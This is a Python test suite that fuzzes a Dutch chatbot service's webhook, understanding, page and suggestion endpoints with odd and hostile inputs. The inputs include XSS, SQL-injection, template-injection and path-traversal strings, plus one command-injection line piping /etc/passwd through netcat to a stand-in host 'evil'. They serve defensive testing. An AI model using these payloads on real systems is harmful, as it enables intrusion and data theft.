"""Whatever somebody sends: no failure, no silence, no echo of markup."""

import json
from collections.abc import Iterator
from html.parser import HTMLParser
from typing import ClassVar

import httpx
import pytest

from tests.running import Wegwijs

WEBHOOK = "/webhooks/rest/webhook"
#: Name and message; the names are what a failing test shows.
TEXTS = {
    "empty": "",
    "spaces": "     \t\n  ",
    "invisible": "\u200b\u200d\ufeff\u00a0",
    "one letter": "a",
    "dots": "...",
    "emoji": "😢💔🙏🏽👩‍👩‍👧‍👦",
    "flags": "🇳🇱" * 500,
    "html": "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "broken html": "</p></article><b onmouseover=alert(3)>",
    "attribute": "\" onfocus=alert(4) autofocus x=\"",
    "template": "{{7*191}} ${7*191} {% include 'chat.html' %} %s %(x)s {0} {sender}",
    "sql": "Robert'); DROP TABLE organization;-- ' OR '1'='1",
    "path": "../../../etc/passwd\\..\\..",
    "command": "; cat /etc/passwd | nc evil 1 `id` $(id)",
    "log": "hoi\r\nERROR root: alles is stuk\x1b[2J",
    "control": "".join(map(chr, range(1, 32))) + "\x7f\x80\x9f",
    "null": "hoi\x00 daar\x00",
    "right to left": "\u202eneppohcsnezo\u202c ik ben moe",
    "stacked accents": "i" + "\u0301\u0302\u0303" * 1000 + "k ben moe",
    "private use": "\ue000\uffff\U0010ffff",
    "arabic": "أنا مريض بالسرطان وأحتاج إلى المساعدة",
    "turkish": "Kanser hastasıyım, yardıma ihtiyacım var, İzmir'den değil Zaandam'dan",
    "chinese": "我得了癌症，需要帮助",
    "english": "I have cancer and I feel so alone, can you help me?",
    "polish": "Mam raka i szukam pomocy w Zaandam",
    "number": "9" * 400,
    "slash": "/",
    "rasa": "/restart",
    "unknown button": "/bestaat-niet{\"place\": \"x\"}",
    "json": '{"intent": "crisis", "text": null}',
    "5,000 characters": "ik ben zo moe en ik weet het niet meer. " * 125,
    "5,000 a": "a" * 5_000,
    "60,000 characters": "woord " * 10_000,
    "60,000 spaces": " " * 60_000,
    "60,000 a": "a" * 60_000,
    "60,000 brackets": "<" * 60_000,
}  # fmt: skip
#: JSON that is no text: halves of a pair that stand alone.
SURROGATES = [r"\ud800", r"ik ben moe \udfff", r"\ude00\ud83d"]
DUTCH = {"u", "uw", "ik", "een", "de", "het", "dit", "bel", "kijk"}
MARKUP = ("<script", "<img", "<b ", "onerror=", "onfocus=", "onmouseover=", "</p>", "DROP TABLE", "1337", "passwd")


@pytest.fixture
def door(wegwijs: Wegwijs) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=wegwijs.address, timeout=30) as client:
        yield client


class Tags(HTMLParser):
    """The elements of a page, and what the page itself loads."""

    OURS: ClassVar = ["/widget.js", "/static/icon.svg"]

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def is_dutch(sentence: str) -> bool:
    words = {word.strip(".,:?!'\"()").lower() for word in sentence.split()}
    return bool(words & DUTCH) and sentence == sentence.strip() != ""


def check_refusal(answer: httpx.Response) -> None:
    assert answer.status_code in (413, 422), answer.status_code
    assert is_dutch(answer.json()["error"]["message"])


@pytest.mark.parametrize("name", TEXTS)
def test_the_chat_always_answers_in_dutch(door: httpx.Client, name: str) -> None:
    answer = door.post(WEBHOOK, json={"sender": f"slecht-{name}", "message": TEXTS[name]})
    assert answer.status_code == 200, answer.text
    said = answer.json()
    assert said and all(one["text"].strip() for one in said)
    assert any(is_dutch(one["text"]) for one in said[1:] or said)
    assert [markup for markup in MARKUP if markup in answer.text] == []


@pytest.mark.parametrize("name", TEXTS)
def test_understanding_always_answers(door: httpx.Client, name: str) -> None:
    answer = door.post("/api/understand", json={"text": TEXTS[name]})
    assert answer.status_code == 200, answer.text
    assert list(answer.json()) == ["label", "themes", "safety", "place", "role", "phase", "ages"]
    assert [markup for markup in MARKUP if markup in answer.text] == []


@pytest.mark.parametrize("name", TEXTS)
def test_the_page_shows_what_was_typed_as_text_only(door: httpx.Client, name: str) -> None:
    answer = door.post("/", data={"message": TEXTS[name], "sender": f"pagina-{name}"})
    if "60,000" in name and TEXTS[name].count(" ") != 60_000:
        # Escaped for a form, some of these are larger than a request may be.
        assert answer.status_code in (200, 413)
    else:
        assert answer.status_code == 200, answer.text
    tags = Tags()
    tags.feed(answer.text)
    assert [name for _, attributes in tags.found for name in attributes if name.startswith("on")] == []
    assert [attributes["src"] for tag, attributes in tags.found if tag in ("script", "img", "iframe")] == tags.OURS[
        : 2 if answer.status_code == 200 else 0
    ]


@pytest.mark.parametrize("half", SURROGATES)
def test_half_characters_do_not_spoil_a_message(door: httpx.Client, half: str) -> None:
    json_header = {"content-type": "application/json"}

    def post(path: str, body: str) -> httpx.Response:
        return door.post(path, content=body.encode(), headers=json_header)

    said = post(WEBHOOK, f'{{"sender": "half {SURROGATES.index(half)}", "message": "{half}"}}')
    assert (
        said.status_code == 200 and is_dutch(said.json()[-1]["text"]) and "Het lukt mij nu even niet" not in said.text
    )
    crisis = post(WEBHOOK, f'{{"sender": "half", "message": "ik wil dood {half}", "metadata": {{"x": "{half}"}}}}')
    assert crisis.status_code == 200 and "0800-0113" in crisis.text
    understood = post("/api/understand", f'{{"text": "ik woon in Zaandam {half}"}}')
    assert understood.status_code == 200 and understood.json()["place"]["name"] == "Zaandam"
    check_refusal(post(WEBHOOK, f'{{"sender": "{half}", "message": "hoi"}}'))


def test_a_whole_pair_is_an_ordinary_character(door: httpx.Client) -> None:
    body = rb'{"sender": "paar", "message": "\ud83d\ude22"}'
    answer = door.post(WEBHOOK, content=body, headers={"content-type": "application/json"})
    assert answer.status_code == 200 and answer.json()


@pytest.mark.parametrize("path", [WEBHOOK, "/api/understand", "/"])
@pytest.mark.parametrize("size", [100_000, 1_000_000])
def test_a_hundred_thousand_characters_are_refused_kindly(door: httpx.Client, path: str, size: int) -> None:
    body = json.dumps({"sender": "groot", "message": "a" * size, "text": "a" * size})
    check_refusal(door.post(path, content=body, headers={"content-type": "application/json"}))


@pytest.mark.parametrize(
    "sender", ["<script>alert(1)</script>", "../../x", "a\x00b", "😢", " ", "a" * 200, "'; --", "\n"]
)
def test_any_name_for_a_conversation_works_and_stays_its_own(door: httpx.Client, sender: str) -> None:
    answer = door.post(WEBHOOK, json={"sender": sender, "message": "/werk"})
    assert answer.status_code == 200 and answer.headers["content-type"] == "application/json"
    said = answer.json()
    assert {one["recipient_id"] for one in said} == {sender}
    assert all(sender.strip() not in one["text"] for one in said if len(sender.strip()) > 1)
    assert any("welke plaats" in one["text"] for one in said)


@pytest.mark.parametrize("name", [name for name, text in TEXTS.items() if len(text) <= 100])
def test_odd_places_and_themes_are_refused_or_found(door: httpx.Client, name: str) -> None:
    found = door.get("/api/places", params={"q": TEXTS[name]})
    assert found.status_code == 200 and isinstance(found.json(), list)
    placed = door.get("/api/suggestions", params={"theme": "werk", "place": TEXTS[name]})
    if placed.status_code != 200:
        check_refusal(placed)
    check_refusal(door.get("/api/suggestions", params={"theme": TEXTS[name]}))
    assert [markup for markup in MARKUP if markup in found.text + placed.text] == []
